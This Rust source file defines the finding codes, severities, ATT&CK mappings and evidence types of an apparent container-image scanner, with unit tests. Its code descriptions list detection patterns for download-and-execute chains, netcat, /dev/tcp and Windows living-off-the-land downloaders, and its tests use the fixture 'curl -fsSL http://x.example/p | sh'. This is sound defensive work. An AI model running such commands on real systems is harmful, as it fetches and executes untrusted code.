//! Findings: the facts a scan reports. Every finding has a stable kebab-case
//! code (with a title, description and ATT&CK technique kept in one table),
//! a severity, and where it was found: path, layer, history step, sha256,
//! what inside the file it is about (its [`Subject`]), and the evidence
//! that explains it, as human text and as structured [`Evidence`] items. A
//! finding's fingerprint is computed from those fields (never the evidence).

use std::fmt;
use std::str::FromStr;

use schemars::JsonSchema;
use serde::Serialize;

use crate::digest::Sha256;
use crate::path::ImagePath;

/// How bad a finding is.
#[derive(
    Clone,
    Copy,
    Debug,
    PartialEq,
    Eq,
    PartialOrd,
    Ord,
    Hash,
    Serialize,
    serde::Deserialize,
    JsonSchema,
)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Info,
    Low,
    Medium,
    High,
    Critical,
}

impl Severity {
    /// Lowercase name.
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Info => "info",
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        }
    }
}

impl Severity {
    /// One step more severe (critical stays critical).
    pub fn raise(self) -> Severity {
        match self {
            Severity::Info => Severity::Low,
            Severity::Low => Severity::Medium,
            Severity::Medium => Severity::High,
            Severity::High | Severity::Critical => Severity::Critical,
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Severity {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Ok(match s.to_ascii_lowercase().as_str() {
            "info" => Severity::Info,
            "low" => Severity::Low,
            "medium" => Severity::Medium,
            "high" => Severity::High,
            "critical" => Severity::Critical,
            _ => {
                return Err(format!(
                    "unknown severity {s:?} (info, low, medium, high, critical)"
                ));
            }
        })
    }
}

/// What a finding code means: the stable facts behind `stowaway explain`.
#[derive(Debug)]
pub struct CodeInfo {
    /// Stable kebab-case code.
    pub code: &'static str,
    /// One-line title.
    pub title: &'static str,
    /// MITRE ATT&CK technique id.
    pub technique: &'static str,
    /// Default severity.
    pub severity: Severity,
    /// What it means, why it matters, and what to do.
    pub description: &'static str,
}

macro_rules! codes {
    ($($variant:ident => $code:literal, $sev:ident, $tech:literal, $title:literal, $desc:literal;)*) => {
        /// Every finding code Stowaway emits.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub enum Code { $($variant,)* }

        /// The code table, in a stable order.
        pub const CODES: &[CodeInfo] = &[
            $(CodeInfo { code: $code, title: $title, technique: $tech, severity: Severity::$sev, description: $desc },)*
        ];

        impl Code {
            /// Every code.
            pub const ALL: &[Code] = &[$(Code::$variant,)*];
            /// Facts about this code.
            pub fn info(self) -> &'static CodeInfo {
                &CODES[self as usize]
            }
        }
    };
}

codes! {
    AbsolutePath => "absolute-path", Medium, "T1611",
        "Layer entry with an absolute path",
        "A tar entry of a layer names an absolute path (`/etc/...`). Conforming tools write relative names; an absolute one is aimed at extractors that write where the name says, outside the container root. Stowaway reads it as if it were relative and reports it.";
    PathTraversal => "path-traversal", High, "T1611",
        "Layer entry climbs out of the image root",
        "A tar entry name or hardlink target uses `..` to climb above the image root. A naive extractor writes such an entry on the host, outside the container's filesystem. Stowaway clamps the path to the root and reports it.";
    DeviceNode => "device-node", Medium, "T1611",
        "Device node shipped in a layer",
        "A character or block device file is part of a layer. Images have no need to ship device nodes (the runtime creates /dev); a device in an image can give a container direct access to host hardware or memory when run with relaxed settings.";
    SparseFile => "sparse-file", Low, "T1027",
        "Sparse file in a layer",
        "A GNU or PAX sparse entry. Its holes read as zeros; Stowaway hashes the expanded content. Sparse entries are rare in images and have confused extractors and scanners, so they are reported.";
    DuplicateEntry => "duplicate-entry", Low, "T1027",
        "Same path written twice in one layer",
        "One layer tar holds two entries for the same path; the last one wins. The earlier bytes are still shipped and were analysed; a scanner that only looks at the first or the last entry can be fooled.";
    MalformedWhiteout => "malformed-whiteout", Low, "T1027",
        "Whiteout marker with no target or a reserved name",
        "A bare `.wh.` entry names nothing to delete, `.wh..` and `.wh...` would name the directory itself or its parent, and `.wh..wh.*` names other than `.wh..wh..opq` are reserved metadata. Stowaway ignores them (deletes nothing), as the OCI image spec says, and reports them because extractors have disagreed on them.";
    HardlinkMissingTarget => "hardlink-missing-target", Low, "T1027",
        "Hardlink to a path that does not exist",
        "A hardlink entry points at a path that neither this layer (earlier in the tar) nor a lower layer provides. Extractors fail or behave differently on it; its content is unknown.";
    SymlinkEscapesRoot => "symlink-escapes-root", Low, "T1611",
        "Relative symlink that climbs above the image root",
        "A symlink whose relative target uses enough `..` to leave the image root. Inside a container it resolves at the root; on a host that extracts or inspects the image it can point anywhere. Recorded as data, never followed on the host.";
    SetuidFile => "setuid-file", Medium, "T1548.001",
        "Setuid executable",
        "A file with the setuid bit: it runs with its owner's privileges (root, usually). Base images ship a few (su, passwd, mount); anything else deserves a reason.";
    SetgidFile => "setgid-file", Low, "T1548.001",
        "Setgid executable",
        "A file with the setgid bit: it runs with its group's privileges.";
    RemovedExecutable => "removed-executable", Medium, "T1564",
        "Executable shipped in one layer and hidden by a later one",
        "A layer ships an executable file and a later layer deletes it (whiteout, opaque directory, or overwrite). It is invisible in the running container but every copy of the image still carries its bytes, which anyone with the image can extract. Check the history step that added it.";
    MislabeledCompression => "mislabeled-compression", Low, "T1027",
        "Layer compression differs from its media type",
        "The layer's bytes are compressed differently from what its media type says (for example gzip bytes labelled zstd, or plain tar labelled gzip). Stowaway reads the real format, found by magic bytes; other tools may refuse or mis-read the layer.";
    TransferTool => "transfer-tool", High, "T1105",
        "Program that transfers files, identified by content",
        "A binary whose content identifies it as a file transfer tool (curl, wget, busybox with download applets, netcat, socat, scp, rsync, certutil, bitsadmin…). It lets anyone who gets code execution in the container pull in more tools or push data out. The evidence says how it was identified and which layer and build step added it. Remove it from runtime images (multi-stage builds), or allow it by path and sha256 with a reason when the application needs it.";
    DisguisedTool => "disguised-tool", Critical, "T1036.005",
        "Transfer tool under a name that is not its own",
        "A binary identified by content as a transfer tool (or interpreter) sits under a file name that does not belong to it: curl saved as `healthcheck`, busybox as `libutil.so`. Renaming tools is how droppers slip past name-based checks; legitimate images rarely do it.";
    Interpreter => "interpreter", Low, "T1059",
        "Language runtime that can download with a one-liner",
        "Python, Perl, Ruby, PHP, Node.js, Lua and similar runtimes (or programs embedding one) can fetch and run code without any transfer tool. Reported as a capability, not an alarm; most application images need their runtime.";
    PackageDownloader => "package-downloader", Low, "T1105",
        "Package manager or base-OS download helper",
        "apt's http/https/ftp methods, apt-helper, apk, dnf, pip and their kind download software by design. Reported as context so that the baseline can absorb base-image content; a new one in an application layer may still deserve a look.";
    PeDownloader => "pe-downloader", High, "T1105",
        "Windows binary importing download APIs",
        "A PE file that imports URL download APIs (urlmon URLDownloadToFile, WinINet, WinHTTP, BITS) or, for .NET, references WebClient/HttpClient download methods. Together with process-creation APIs (CreateProcess, WinExec, ShellExecute) this is the shape of a dropper and is raised to critical.";
    NativeDownloader => "native-downloader", Medium, "T1105",
        "Native (ELF or Mach-O) binary that downloads",
        "An ELF or Mach-O program that is not a known tool but calls libcurl (curl_easy_*), or a static binary with network, execute and chmod primitives and embedded URLs. Droppers built for containers look like this; so do some legitimate agents.";
    HttpClientBinary => "http-client-binary", Low, "T1105",
        "Go or Rust binary with an HTTP client",
        "A statically built Go or Rust program whose symbols or strings show an HTTP client (net/http, reqwest, hyper). Common in cloud-native software; reported so a new one can be noticed, raised when it can also run commands.";
    PackedBinary => "packed-binary", High, "T1027.002",
        "Packed or very high-entropy executable",
        "An executable packed with UPX or whose content is close to random (entropy above 7.8 bits per byte). Packing hides strings and imports from analysis and is rare in legitimate container images.";
    DownloadExecChain => "download-exec-chain", Critical, "T1105",
        "Download then execute",
        "A script, build step or command fetches content and runs it: `curl … | sh`, `wget -O- | bash`, a download followed by `chmod +x`, IEX of a download cradle, Python urlopen then subprocess. The evidence gives the line numbers and commands.";
    DownloadCommand => "download-command", Medium, "T1105",
        "Command that downloads a file",
        "A script or build step runs a downloader against a URL (curl, wget, aria2c, Python urllib, Perl LWP, ADD http…). The evidence gives the line and the command.";
    RemoteCopyCommand => "remote-copy-command", High, "T1105",
        "Command that copies files to or from another host",
        "rsync/scp/sftp to user@host:path, tftp/ftp transfers, netcat or socat wired to files, bash /dev/tcp redirections, writes to UNC paths. These move files across hosts without a web server.";
    LolbinDownload => "lolbin-download", High, "T1105",
        "Windows built-in used as a downloader",
        "certutil -urlcache/-verifyctl, bitsadmin /transfer, Start-BitsTransfer, Invoke-WebRequest, Net.WebClient DownloadFile/DownloadString, mshta/regsvr32/msiexec/rundll32 with URLs: living-off-the-land downloads.";
    EntrypointTransferTool => "entrypoint-transfer-tool", High, "T1105",
        "Image entrypoint or command is a transfer tool",
        "The image's ENTRYPOINT or CMD runs a binary identified as a transfer tool, or a shell command that downloads. A container that starts by fetching things is a delivery vehicle.";
    HealthcheckTransferTool => "healthcheck-transfer-tool", Low, "T1105",
        "Healthcheck uses a transfer tool",
        "The image's HEALTHCHECK runs a transfer tool (typically `curl -f http://localhost/health`). Usually benign, but it is why the tool is in the image: allow the tool by path and sha256 with that reason, or use a purpose-built probe.";
    EnvUrl => "env-url", Info, "T1105",
        "URL in the image environment",
        "An ENV value holds a URL. Often configuration; sometimes where a startup script fetches its payload.";
    UnapprovedImage => "unapproved-image", Medium, "T1525",
        "Image not approved for its repository",
        "The repository has approved images in the baseline store, and this image's digest matches none of them. It may be a legitimate new build awaiting approval, or an image pushed outside the pipeline (an implanted image). Approve it with `stowaway baseline approve` once reviewed.";
    DriftNewExecutable => "drift-new-executable", High, "T1105",
        "Executable added or replaced in a running container",
        "A running container holds an executable that its image did not ship (or different bytes under the same path). Tools downloaded after start are the classic sign of ingress tool transfer; legitimate containers rarely write programs.";
    DriftModified => "drift-modified", Medium, "T1565.001",
        "File changed in a running container",
        "A file shipped by the image has different content in the running container (for example /etc/passwd). Allow known runtime writes (caches, logs) by path in the policy.";
    DriftPermissions => "drift-permissions", High, "T1548.001",
        "Setuid/setgid or owner changed in a running container",
        "A file gained the setuid or setgid bit, or changed owner or mode, after the container started.";
    DriftDeleted => "drift-deleted", Low, "T1070.004",
        "File deleted in a running container",
        "A file the image shipped is gone from the running container. Deleting tools or logs after use hides activity.";
    Unanalyzable => "unanalyzable-entry", Medium, "T1027",
        "Entry that could not be analysed",
        "An entry that Stowaway could not read or analyse completely (unsupported tar entry type, a file over the analysis buffer, an unreadable file in a root filesystem). Its bytes were hashed where possible; the evidence says what failed.";
    EntriesAfterEnd => "entries-after-end", Medium, "T1027",
        "Tar entries after the end-of-archive marker",
        "A layer tar holds entry headers after its end-of-archive marker (the zero block). Runtimes stop at the marker, but `tar -i` (ignore zeros) and some extractors keep reading and write those files. Content placed there is shipped with the image yet invisible to tools that stop at the marker; the evidence names the entries.";
    PackageFileModified => "package-file-modified", High, "T1554",
        "Packaged file differs from what its package manager installed",
        "A file that the image's package database (dpkg, apk or rpm) says a package installed, whose bytes no longer match the digest the package manager recorded for it (MD5 for dpkg, SHA-1 for apk, the package's file digest for rpm). Something edited or replaced it after installation: a patched binary, a line appended to a packaged script. The evidence names the package, the expected and actual digests and the layer that changed the file. Critical for executables and for scripts that now download; edited configuration files under /etc are normal administration and reported as info, unless they are cron, systemd or shell profile files that carry a download command. `dpkg -V`, `apk audit` and `rpm -V` do the same check on a host.";
    PackageDatabaseUnread => "package-database-unread", Medium, "T1027",
        "Package database present but not read",
        "The image carries a package database Stowaway does not read (an rpm Berkeley DB or ndb database, a database file over --max-package-db, or one that does not parse). Files it owns cannot be told apart from files added by hand, so no file is treated as packaged on its strength: severities are not lowered and tampered package files are not found.";
}

impl Code {
    /// The stable string.
    pub fn as_str(self) -> &'static str {
        self.info().code
    }

    /// Look a code up by its string.
    pub fn parse(s: &str) -> Option<Code> {
        Code::ALL.iter().copied().find(|c| c.as_str() == s)
    }
}

impl fmt::Display for Code {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl Serialize for Code {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(self.as_str())
    }
}

impl JsonSchema for Code {
    fn schema_name() -> std::borrow::Cow<'static, str> {
        "Code".into()
    }
    fn json_schema(_: &mut schemars::SchemaGenerator) -> schemars::Schema {
        let codes: Vec<&str> = Code::ALL.iter().map(|c| c.as_str()).collect();
        schemars::json_schema!({
            "description": "A finding code (`stowaway explain CODE`).",
            "type": "string",
            "enum": codes,
        })
    }
}

/// Where in the image a finding was made.
#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
pub struct LayerRef {
    /// 0-based layer index.
    pub index: usize,
    /// Compressed blob digest, when the source has one.
    pub digest: Option<Sha256>,
    /// The history step (`created_by`) that produced the layer.
    pub created_by: Option<String>,
}

/// Whether a packaged file is still what its package manager installed.
#[derive(Clone, Copy, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
#[serde(rename_all = "lowercase")]
pub enum Integrity {
    /// The file's digest matches the one the package manager recorded.
    Verified,
    /// The file's bytes differ from the recorded digest.
    Modified,
    /// The package manager recorded no digest (or one Stowaway cannot check).
    Unverifiable,
}

impl Integrity {
    /// Lowercase name.
    pub fn as_str(self) -> &'static str {
        match self {
            Integrity::Verified => "verified",
            Integrity::Modified => "modified",
            Integrity::Unverifiable => "unverifiable",
        }
    }
}

/// The package that installed a file (from the image's package database),
/// and the file's integrity against it.
#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
#[schemars(deny_unknown_fields)]
pub struct PackageRef {
    /// `dpkg`, `apk` or `rpm`.
    pub manager: String,
    pub name: String,
    pub version: String,
    pub arch: Option<String>,
    pub integrity: Integrity,
}

impl fmt::Display for PackageRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {} ({})", self.name, self.version, self.manager)
    }
}

/// What inside its file (or the image config) a finding is about: with
/// code, path and content, the finding's identity.
#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
#[serde(rename_all = "snake_case", tag = "kind")]
pub enum Subject {
    /// A line of a script or of a command string (entrypoint, healthcheck).
    Line { line: usize, text: String },
    /// A build step of the image history.
    HistoryStep { step: usize, command: String },
}

impl Subject {
    /// The part that identifies it across rebuilds: the text, not where it
    /// sits (line numbers and step numbers move when unrelated lines do).
    pub fn identity(&self) -> &str {
        match self {
            Subject::Line { text, .. } => text,
            Subject::HistoryStep { command, .. } => command,
        }
    }
}

/// What a piece of structured evidence is.
#[derive(Clone, Copy, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum EvidenceKind {
    /// An imported function (PE import table, ELF dynamic symbol).
    Import,
    /// A symbol or function name found in the binary (Go pclntab, symbols).
    Symbol,
    /// A library the program was built with (Rust crates).
    Library,
    /// A string inside the file: an identity marker, a version resource.
    String,
    /// A command line of a script, a build step or a config command.
    Command,
    /// A URL embedded in the file or the config.
    Url,
    /// A system call the program's code makes.
    Syscall,
    /// A package (from the image's package database).
    Package,
    /// A field of the image config (`Entrypoint/Cmd`, `Healthcheck`, `Env`).
    Config,
}

/// One piece of evidence, structured beside the human text: what kind of
/// thing matched, the line it is on (scripts and command strings), and the
/// matched text.
#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
#[schemars(deny_unknown_fields)]
pub struct Evidence {
    pub kind: EvidenceKind,
    /// 1-based line, when the text is on a line of a file or command string.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub line: Option<usize>,
    pub text: String,
}

/// The shape of findings as stored (layer cache entries): part of the cache
/// key, so a cache written before structured evidence is not reused.
pub const FINDING_FORMAT: &str = "evidence-items-1";

/// One finding.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct Finding {
    pub code: Code,
    pub severity: Severity,
    pub technique: &'static str,
    pub title: &'static str,
    /// Path inside the image, if the finding is about a file.
    pub path: Option<ImagePath>,
    /// The layer that shipped the bytes or entry.
    pub layer: Option<LayerRef>,
    /// For files hidden later: the layer that hid them.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub hidden_in: Option<LayerRef>,
    /// sha256 of the file content.
    pub sha256: Option<Sha256>,
    /// Human-readable facts that explain the finding.
    pub evidence: Vec<String>,
    /// The same facts, structured: imports, strings, commands, URLs…
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub items: Vec<Evidence>,
    /// The package that installed the file, when it is a packaged file.
    pub package: Option<PackageRef>,
    /// The line or build step the finding is about, when it is about one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub subject: Option<Subject>,
}

/// The stored form of a finding (title and technique come from its code).
#[derive(serde::Deserialize)]
struct FindingRepr {
    code: String,
    severity: Severity,
    path: Option<ImagePath>,
    layer: Option<LayerRef>,
    #[serde(default)]
    hidden_in: Option<LayerRef>,
    sha256: Option<Sha256>,
    evidence: Vec<String>,
    #[serde(default)]
    items: Vec<Evidence>,
    #[serde(default)]
    package: Option<PackageRef>,
    #[serde(default)]
    subject: Option<Subject>,
}

impl<'de> serde::Deserialize<'de> for Finding {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let r = FindingRepr::deserialize(d)?;
        let code = Code::parse(&r.code).ok_or_else(|| {
            serde::de::Error::custom(format!("unknown finding code {:?}", r.code))
        })?;
        let mut f = Finding::new(code).severity(r.severity);
        f.path = r.path;
        f.layer = r.layer;
        f.hidden_in = r.hidden_in;
        f.sha256 = r.sha256;
        f.evidence = r.evidence;
        f.items = r.items;
        f.package = r.package;
        f.subject = r.subject;
        Ok(f)
    }
}

impl Finding {
    /// A finding with the code's default severity and no location.
    pub fn new(code: Code) -> Finding {
        let info = code.info();
        Finding {
            code,
            severity: info.severity,
            technique: info.technique,
            title: info.title,
            path: None,
            layer: None,
            hidden_in: None,
            sha256: None,
            evidence: Vec::new(),
            items: Vec::new(),
            package: None,
            subject: None,
        }
    }

    /// Stable identity: code, path, content, and the text of its subject
    /// (without its line number) — not the layer digest, so a rebuilt image
    /// with the same file is the same finding. Stored baselines hold these:
    /// the formula must not change.
    pub fn fingerprint(&self) -> String {
        let key = format!(
            "{}\0{}\0{}\0{}",
            self.code.as_str(),
            self.path.as_ref().map(|p| p.display()).unwrap_or_default(),
            self.sha256.map(|d| d.hex()).unwrap_or_default(),
            self.subject
                .as_ref()
                .map(Subject::identity)
                .unwrap_or_default()
        );
        Sha256::of(key.as_bytes()).hex()
    }

    /// Set the path.
    pub fn at(mut self, path: &ImagePath) -> Finding {
        self.path = Some(path.clone());
        self
    }

    /// Add a line of evidence.
    pub fn because(mut self, evidence: impl Into<String>) -> Finding {
        self.evidence.push(evidence.into());
        self
    }

    /// Add a piece of structured evidence (the human text says it too).
    pub fn shows(
        mut self,
        kind: EvidenceKind,
        line: Option<usize>,
        text: impl Into<String>,
    ) -> Finding {
        self.items.push(Evidence {
            kind,
            line,
            text: text.into(),
        });
        self
    }

    /// Add one piece of structured evidence of `kind` per text.
    pub fn shows_each<S: AsRef<str>>(mut self, kind: EvidenceKind, texts: &[S]) -> Finding {
        for t in texts {
            self = self.shows(kind, None, t.as_ref());
        }
        self
    }

    /// Set what inside the file the finding is about.
    pub fn about(mut self, subject: Subject) -> Finding {
        self.subject = Some(subject);
        self
    }

    /// Override the severity.
    pub fn severity(mut self, severity: Severity) -> Finding {
        self.severity = severity;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codes_are_unique_kebab_and_indexed() {
        let mut seen = std::collections::HashSet::new();
        for (i, c) in Code::ALL.iter().enumerate() {
            assert_eq!(*c as usize, i);
            let s = c.as_str();
            assert!(seen.insert(s), "duplicate {s}");
            assert!(
                s.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'),
                "{s}"
            );
            assert!(c.info().technique.starts_with('T'));
            assert_eq!(Code::parse(s), Some(*c));
        }
    }

    /// The fingerprint formula is what stored baselines hold: these values
    /// were computed from `code \0 path \0 sha256-hex \0 subject text` and
    /// must never change. Line and step numbers are not part of it; evidence
    /// text is never parsed for it.
    #[test]
    fn fingerprints_come_from_fields_and_stay_stable() {
        let f = Finding::new(Code::DownloadCommand)
            .at(&ImagePath::new("app/get.sh"))
            .because("line 7: not the subject")
            .about(Subject::Line {
                line: 3,
                text: "curl -fsSL http://x.example/p | sh".into(),
            });
        assert_eq!(
            f.fingerprint(),
            "45752bdb98b0b8295f708a78e70e8df41b159868b02422c12ca080e08af1489b"
        );
        let mut moved = f.clone();
        moved.subject = Some(Subject::Line {
            line: 40,
            text: "curl -fsSL http://x.example/p | sh".into(),
        });
        moved.evidence = vec!["line 40: curl -fsSL http://x.example/p | sh".into()];
        assert_eq!(moved.fingerprint(), f.fingerprint());
        let step = Finding::new(Code::DownloadCommand).about(Subject::HistoryStep {
            step: 2,
            command: "RUN curl http://x.example/p -o /p".into(),
        });
        assert_eq!(
            step.fingerprint(),
            "bac0defa6f2923931b57e7f4f815dcd3b7fb1258673dbbc6a5a9b1c26d2f0e62"
        );
        // Evidence alone is not a subject.
        let text_only = Finding::new(Code::DownloadCommand)
            .because("history step 2: RUN curl http://x.example/p -o /p");
        assert_ne!(text_only.fingerprint(), step.fingerprint());
    }
}
